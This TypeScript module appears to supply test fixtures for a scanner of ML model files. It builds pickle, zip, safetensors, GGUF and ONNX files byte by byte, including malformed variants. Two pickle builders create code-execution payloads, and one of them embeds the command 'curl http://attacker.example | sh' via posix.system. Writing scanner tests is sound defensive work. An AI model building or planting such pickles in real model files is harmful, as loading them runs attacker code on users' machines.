/**
 * Byte-level builders for scanner tests: pickles opcode by opcode, zip archives, safetensors,
 * GGUF and ONNX files. Every fixture is generated here, never committed as a blob.
 */
import { crc32, deflateRawSync } from 'node:zlib';

// ── pickles ─────────────────────────────────────────────────────────────────────────────────

const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
};
const i32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeInt32LE(n);
  return b;
};
const u64 = (n: number | bigint) => {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE(BigInt(n));
  return b;
};

/** A pickle assembler: each method appends one opcode with its argument. */
export class Pickle {
  private readonly parts: Buffer[] = [];

  raw(bytes: Buffer | string | readonly number[]): this {
    this.parts.push(
      typeof bytes === 'string'
        ? Buffer.from(bytes, 'latin1')
        : Buffer.isBuffer(bytes)
          ? bytes
          : Buffer.from(bytes),
    );
    return this;
  }

  private op(code: number, arg: Buffer = Buffer.alloc(0)): this {
    return this.raw(Buffer.concat([Buffer.from([code]), arg]));
  }

  proto(n: number): this {
    return this.op(0x80, Buffer.from([n]));
  }
  frame(n: number): this {
    return this.op(0x95, u64(n));
  }
  stop(): this {
    return this.op(0x2e);
  }
  mark(): this {
    return this.op(0x28);
  }
  pop(): this {
    return this.op(0x30);
  }
  popMark(): this {
    return this.op(0x31);
  }
  dup(): this {
    return this.op(0x32);
  }
  none(): this {
    return this.op(0x4e);
  }
  newTrue(): this {
    return this.op(0x88);
  }
  newFalse(): this {
    return this.op(0x89);
  }
  int(n: number): this {
    return n >= 0 && n < 256 ? this.op(0x4b, Buffer.from([n])) : this.op(0x4a, i32(n));
  }
  /** Protocol 0 text opcodes: GLOBAL, INST, STRING, UNICODE, INT, PUT, GET. */
  global(module: string, name: string): this {
    return this.raw(`c${module}\n${name}\n`);
  }
  inst(module: string, name: string): this {
    return this.raw(`i${module}\n${name}\n`);
  }
  string(quoted: string): this {
    return this.raw(`S${quoted}\n`);
  }
  unicode(text: string): this {
    return this.raw(`V${text}\n`);
  }
  textInt(n: number): this {
    return this.raw(`I${n}\n`);
  }
  put(i: number): this {
    return this.raw(`p${i}\n`);
  }
  get(i: number): this {
    return this.raw(`g${i}\n`);
  }
  shortBinString(s: string): this {
    const b = Buffer.from(s, 'latin1');
    return this.op(0x55, Buffer.concat([Buffer.from([b.length]), b]));
  }
  binString(s: string): this {
    const b = Buffer.from(s, 'latin1');
    return this.op(0x54, Buffer.concat([i32(b.length), b]));
  }
  /** SHORT_BINUNICODE for short strings, BINUNICODE otherwise. */
  str(s: string): this {
    const b = Buffer.from(s, 'utf8');
    return b.length < 256
      ? this.op(0x8c, Buffer.concat([Buffer.from([b.length]), b]))
      : this.op(0x58, Buffer.concat([u32(b.length), b]));
  }
  binUnicode(s: string): this {
    const b = Buffer.from(s, 'utf8');
    return this.op(0x58, Buffer.concat([u32(b.length), b]));
  }
  shortBinBytes(b: Buffer): this {
    return this.op(0x43, Buffer.concat([Buffer.from([b.length]), b]));
  }
  binBytes(b: Buffer): this {
    return this.op(0x42, Buffer.concat([u32(b.length), b]));
  }
  /** An opcode with a length field and no payload: for lengths past the end of input. */
  lengthOnly(
    code: 'LONG4' | 'BINUNICODE' | 'BINUNICODE8' | 'BINBYTES8' | 'BINSTRING',
    n: bigint,
  ): this {
    switch (code) {
      case 'LONG4':
        return this.op(0x8b, i32(Number(n)));
      case 'BINSTRING':
        return this.op(0x54, i32(Number(n)));
      case 'BINUNICODE':
        return this.op(0x58, u32(Number(n)));
      case 'BINUNICODE8':
        return this.op(0x8d, u64(n));
      case 'BINBYTES8':
        return this.op(0x8e, u64(n));
    }
  }
  long1(bytes: Buffer): this {
    return this.op(0x8a, Buffer.concat([Buffer.from([bytes.length]), bytes]));
  }
  emptyTuple(): this {
    return this.op(0x29);
  }
  emptyList(): this {
    return this.op(0x5d);
  }
  emptyDict(): this {
    return this.op(0x7d);
  }
  tuple(): this {
    return this.op(0x74);
  }
  tuple1(): this {
    return this.op(0x85);
  }
  tuple2(): this {
    return this.op(0x86);
  }
  tuple3(): this {
    return this.op(0x87);
  }
  list(): this {
    return this.op(0x6c);
  }
  dict(): this {
    return this.op(0x64);
  }
  append(): this {
    return this.op(0x61);
  }
  appends(): this {
    return this.op(0x65);
  }
  setitem(): this {
    return this.op(0x73);
  }
  setitems(): this {
    return this.op(0x75);
  }
  reduce(): this {
    return this.op(0x52);
  }
  build(): this {
    return this.op(0x62);
  }
  newobj(): this {
    return this.op(0x81);
  }
  newobjEx(): this {
    return this.op(0x92);
  }
  obj(): this {
    return this.op(0x6f);
  }
  stackGlobal(): this {
    return this.op(0x93);
  }
  memoize(): this {
    return this.op(0x94);
  }
  binput(i: number): this {
    return this.op(0x71, Buffer.from([i]));
  }
  binget(i: number): this {
    return this.op(0x68, Buffer.from([i]));
  }
  longBinput(i: number): this {
    return this.op(0x72, u32(i));
  }
  longBinget(i: number): this {
    return this.op(0x6a, u32(i));
  }
  binpersid(): this {
    return this.op(0x51);
  }
  ext1(code: number): this {
    return this.op(0x82, Buffer.from([code]));
  }
  ext2(code: number): this {
    const b = Buffer.alloc(2);
    b.writeUInt16LE(code);
    return this.op(0x83, b);
  }
  ext4(code: number): this {
    return this.op(0x84, i32(code));
  }

  bytes(): Buffer {
    return Buffer.concat(this.parts);
  }
}

/** `cos\nsystem\n(S'echo hi'\ntR.` — the classic protocol 0 payload. */
export function protocol0System(command = 'echo hi'): Buffer {
  return new Pickle()
    .global('os', 'system')
    .mark()
    .string(`'${command}'`)
    .tuple()
    .reduce()
    .stop()
    .bytes();
}

/** Protocol 4: `posix.system` through STACK_GLOBAL, memoized and fetched back before the call. */
export function protocol4StackGlobal(module = 'posix', name = 'system'): Buffer {
  return new Pickle()
    .proto(4)
    .frame(0)
    .str(module)
    .memoize()
    .str(name)
    .memoize()
    .stackGlobal()
    .memoize()
    .pop()
    .binget(2)
    .str('curl http://attacker.example | sh')
    .tuple1()
    .reduce()
    .stop()
    .bytes();
}

/**
 * What `torch.save(state_dict)` writes as `data.pkl`: an OrderedDict of
 * `_rebuild_tensor_v2(persistent_load(('storage', FloatStorage, key, 'cpu', n)), …)` calls.
 */
export function torchStateDictPickle(names: readonly string[], protocol: 2 | 4 = 2): Buffer {
  const p = new Pickle().proto(protocol);
  let memo = 0;
  const put = (): void => {
    if (protocol === 4) p.memoize();
    else p.binput(memo);
    memo++;
  };
  const importName = (module: string, name: string): number => {
    if (protocol === 4) p.str(module).memoize().str(name).memoize().stackGlobal();
    else p.global(module, name);
    memo += protocol === 4 ? 2 : 0;
    put();
    return memo - 1;
  };
  const od = importName('collections', 'OrderedDict');
  p.emptyTuple().reduce();
  put();
  p.mark();
  let rebuild = -1;
  let storage = -1;
  names.forEach((name, i) => {
    p.str(name);
    put();
    if (rebuild === -1) rebuild = importName('torch._utils', '_rebuild_tensor_v2');
    else p.binget(rebuild);
    p.mark(); // the arguments of _rebuild_tensor_v2
    p.mark().str('storage');
    put();
    if (storage === -1) storage = importName('torch', 'FloatStorage');
    else p.binget(storage);
    p.str(String(i)).str('cpu').int(4).tuple().binpersid();
    p.int(0).int(2).int(2).tuple2().int(2).int(1).tuple2().newFalse();
    p.binget(od).emptyTuple().reduce();
    p.tuple().reduce();
    put();
  });
  p.setitems().stop();
  return p.bytes();
}

// ── zip archives ─────────────────────────────────────────────────────────────────────────────

export interface ZipMember {
  readonly name: string;
  readonly data: Buffer;
  readonly method?: 0 | 8;
  /** Overrides for hostile archives. */
  readonly declaredSize?: number;
  readonly localName?: string;
}

/** A zip archive as PyTorch writes it (stored entries unless `method: 8`). */
export function zipArchive(
  members: readonly ZipMember[],
  options: { prefix?: Buffer; zip64?: boolean; overlapSecondOnFirst?: boolean } = {},
): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = options.prefix?.length ?? 0;
  const offsets: number[] = [];
  for (const m of members) {
    const method = m.method ?? 0;
    const body = method === 8 ? deflateRawSync(m.data) : m.data;
    const name = Buffer.from(m.name, 'utf8');
    const localName = Buffer.from(m.localName ?? m.name, 'utf8');
    const size = m.declaredSize ?? m.data.length;
    const crc = crc32(m.data);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(0x800, 6);
    lh.writeUInt16LE(method, 8);
    lh.writeUInt32LE(crc, 14);
    lh.writeUInt32LE(body.length, 18);
    lh.writeUInt32LE(size, 22);
    lh.writeUInt16LE(localName.length, 26);
    const local = Buffer.concat([lh, localName, body]);
    const at = options.overlapSecondOnFirst === true && offsets.length === 1 ? offsets[0]! : offset;
    offsets.push(at);
    if (!(options.overlapSecondOnFirst === true && offsets.length === 2)) {
      locals.push(local);
      offset += local.length;
    }
    const extra =
      options.zip64 === true
        ? Buffer.concat([
            Buffer.from([1, 0, 24, 0]),
            u64(size),
            u64(body.length),
            u64(at - (options.prefix?.length ?? 0)),
          ])
        : Buffer.alloc(0);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(0x800, 8);
    ch.writeUInt16LE(method, 10);
    ch.writeUInt32LE(crc, 16);
    ch.writeUInt32LE(options.zip64 === true ? 0xffffffff : body.length, 20);
    ch.writeUInt32LE(options.zip64 === true ? 0xffffffff : size, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt16LE(extra.length, 30);
    ch.writeUInt32LE(options.zip64 === true ? 0xffffffff : at - (options.prefix?.length ?? 0), 42);
    central.push(Buffer.concat([ch, name, extra]));
  }
  const dir = Buffer.concat(central);
  const dirOffset = offset - (options.prefix?.length ?? 0);
  const tail: Buffer[] = [];
  if (options.zip64 === true) {
    const rec = Buffer.alloc(56);
    rec.writeUInt32LE(0x06064b50, 0);
    rec.writeBigUInt64LE(44n, 4);
    rec.writeUInt16LE(45, 12);
    rec.writeUInt16LE(45, 14);
    rec.writeBigUInt64LE(BigInt(members.length), 24);
    rec.writeBigUInt64LE(BigInt(members.length), 32);
    rec.writeBigUInt64LE(BigInt(dir.length), 40);
    rec.writeBigUInt64LE(BigInt(dirOffset), 48);
    const loc = Buffer.alloc(20);
    loc.writeUInt32LE(0x07064b50, 0);
    loc.writeBigUInt64LE(BigInt(dirOffset + dir.length), 8);
    loc.writeUInt32LE(1, 16);
    tail.push(rec, loc);
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(options.zip64 === true ? 0xffff : members.length, 8);
  end.writeUInt16LE(options.zip64 === true ? 0xffff : members.length, 10);
  end.writeUInt32LE(options.zip64 === true ? 0xffffffff : dir.length, 12);
  end.writeUInt32LE(options.zip64 === true ? 0xffffffff : dirOffset, 16);
  return Buffer.concat([options.prefix ?? Buffer.alloc(0), ...locals, dir, ...tail, end]);
}

/** A PyTorch-style checkpoint archive around `dataPkl`. */
export function torchZip(dataPkl: Buffer, options: { method?: 0 | 8 } = {}): Buffer {
  return zipArchive([
    {
      name: 'archive/data.pkl',
      data: dataPkl,
      ...(options.method === undefined ? {} : { method: options.method }),
    },
    { name: 'archive/byteorder', data: Buffer.from('little') },
    { name: 'archive/data/0', data: Buffer.alloc(16, 0x3f) },
    { name: 'archive/version', data: Buffer.from('3\n') },
    { name: 'archive/.data/serialization_id', data: Buffer.from('1234567890') },
  ]);
}

// ── safetensors ──────────────────────────────────────────────────────────────────────────────

export interface SafetensorsSpec {
  readonly header: Record<string, unknown>;
  readonly dataLength: number;
  /** Appended after the data area. */
  readonly trailing?: number;
  /** Raw header text instead of JSON.stringify(header). */
  readonly headerText?: string;
  /** Overrides the 8-byte header length. */
  readonly declaredLength?: bigint;
}

export function safetensors(spec: SafetensorsSpec): Buffer {
  let text = spec.headerText ?? JSON.stringify(spec.header);
  while (Buffer.byteLength(text) % 8 !== 0) text += ' ';
  const header = Buffer.from(text, 'utf8');
  const len = Buffer.alloc(8);
  len.writeBigUInt64LE(spec.declaredLength ?? BigInt(header.length));
  return Buffer.concat([len, header, Buffer.alloc(spec.dataLength + (spec.trailing ?? 0), 1)]);
}

/** A valid two-tensor file: F32[2,2] then BF16[3]. */
export function validSafetensors(): Buffer {
  return safetensors({
    header: {
      __metadata__: { format: 'pt' },
      'a.weight': { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] },
      'a.bias': { dtype: 'BF16', shape: [3], data_offsets: [16, 22] },
    },
    dataLength: 22,
  });
}

// ── GGUF ─────────────────────────────────────────────────────────────────────────────────────

type GgufValue =
  | { type: 'u32'; value: number }
  | { type: 'string'; value: string }
  | { type: 'strings'; value: string[] };

const ggufString = (s: string) => {
  const b = Buffer.from(s, 'utf8');
  return Buffer.concat([u64(b.length), b]);
};

export interface GgufSpec {
  readonly version?: number;
  readonly kv?: Record<string, GgufValue>;
  readonly tensors?: readonly { name: string; dims: number[]; type: number; offset: number }[];
  readonly dataLength?: number;
  readonly tensorCount?: bigint;
  readonly kvCount?: bigint;
}

export function gguf(spec: GgufSpec = {}): Buffer {
  const kv = spec.kv ?? { 'general.architecture': { type: 'string', value: 'llama' } };
  const tensors = spec.tensors ?? [{ name: 'tok.weight', dims: [4, 2], type: 0, offset: 0 }];
  const parts: Buffer[] = [
    Buffer.from('GGUF', 'latin1'),
    u32(spec.version ?? 3),
    u64(spec.tensorCount ?? BigInt(tensors.length)),
    u64(spec.kvCount ?? BigInt(Object.keys(kv).length)),
  ];
  for (const [key, v] of Object.entries(kv)) {
    parts.push(ggufString(key));
    switch (v.type) {
      case 'u32':
        parts.push(u32(4), u32(v.value));
        break;
      case 'string':
        parts.push(u32(8), ggufString(v.value));
        break;
      case 'strings':
        parts.push(u32(9), u32(8), u64(v.value.length), ...v.value.map(ggufString));
        break;
    }
  }
  for (const t of tensors) {
    parts.push(
      ggufString(t.name),
      u32(t.dims.length),
      ...t.dims.map((d) => u64(d)),
      u32(t.type),
      u64(t.offset),
    );
  }
  let out = Buffer.concat(parts);
  const pad = (32 - (out.length % 32)) % 32;
  out = Buffer.concat([out, Buffer.alloc(pad), Buffer.alloc(spec.dataLength ?? 32)]);
  return out;
}

// ── ONNX (protobuf) ──────────────────────────────────────────────────────────────────────────

export function varint(n: number | bigint): Buffer {
  let v = BigInt(n);
  const out: number[] = [];
  do {
    let b = Number(v & 0x7fn);
    v >>= 7n;
    if (v > 0n) b |= 0x80;
    out.push(b);
  } while (v > 0n);
  return Buffer.from(out);
}

export const pb = {
  varint: (field: number, value: number | bigint) =>
    Buffer.concat([varint(field << 3), varint(value)]),
  bytes: (field: number, value: Buffer | string) => {
    const b = typeof value === 'string' ? Buffer.from(value, 'utf8') : value;
    return Buffer.concat([varint((field << 3) | 2), varint(b.length), b]);
  },
};

/** A ModelProto with one graph holding one initializer (inline, or external at `location`). */
export function onnxModel(
  options: { location?: string; irVersion?: number; graph?: boolean } = {},
): Buffer {
  const tensor = Buffer.concat([
    pb.varint(1, 2),
    pb.varint(2, 1),
    pb.bytes(8, 'w'),
    ...(options.location === undefined
      ? [pb.bytes(9, Buffer.alloc(8, 7))]
      : [
          pb.bytes(13, Buffer.concat([pb.bytes(1, 'location'), pb.bytes(2, options.location)])),
          pb.varint(14, 1),
        ]),
  ]);
  const graph = Buffer.concat([pb.bytes(2, 'main'), pb.bytes(5, tensor)]);
  return Buffer.concat([
    pb.varint(1, options.irVersion ?? 8),
    pb.bytes(2, 'cairn-test'),
    ...(options.graph === false ? [] : [pb.bytes(7, graph)]),
    pb.bytes(8, Buffer.concat([pb.bytes(1, ''), pb.varint(2, 17)])),
  ]);
}
